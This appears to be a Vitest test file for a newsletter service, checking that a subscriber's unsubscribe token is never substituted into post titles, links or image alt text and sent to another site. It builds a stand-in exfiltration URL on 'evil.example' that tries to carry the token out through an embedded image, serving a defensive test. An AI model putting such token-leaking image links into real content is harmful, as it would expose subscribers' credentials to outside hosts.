import { expect, it } from 'vitest'
import { TOKEN_PLACEHOLDER } from '../../src/subscribers/token.ts'
import { on, openNewsroom } from './newsroom.ts'

it('no post, title, link or alt text carries a reader’s token to anybody else', async () => {
  const newsroom = await openNewsroom()
  const { actions, deliver, publication, log } = newsroom
  await newsroom.subscribe('mei')
  const elsewhere = `https://evil.example/p.png?t=${TOKEN_PLACEHOLDER}`
  publication.post('cat', {
    title: `Cat ${TOKEN_PLACEHOLDER}`,
    text: `![${TOKEN_PLACEHOLDER}](${elsewhere}) [out](${elsewhere}) ${TOKEN_PLACEHOLDER}`,
  })
  newsroom.goTo(on('MON', '09:00'))
  expect((await actions.plan({})).id).toBe((await actions.plan({})).id)
  await actions.tick()
  await deliver()
  const [sent] = log.mails
  const raw = (sent?.text ?? '').replaceAll('=\r\n', '').replaceAll('=3D', '=')
  const [token = ''] = /(?<=\/unsubscribe\/)[\w-]{43}/.exec(raw) ?? []
  expect(token).not.toBe('')
  expect(token).not.toBe(TOKEN_PLACEHOLDER)
  const withToken = raw.split('\n').filter((line) => line.includes(token))
  expect(withToken.length).toBeGreaterThan(2)
  for (const line of withToken) expect(line).toMatch(/\/unsubscribe\/|subject=unsubscribe/)
  expect(raw).toContain(`p.png?t=${TOKEN_PLACEHOLDER}`)
  // The page of the web has neither a token nor a place of one, and what the post says stands there.
  expect(await actions.archivePage('weekly', 1)).toContain(`p.png?t=${TOKEN_PLACEHOLDER}`)
})
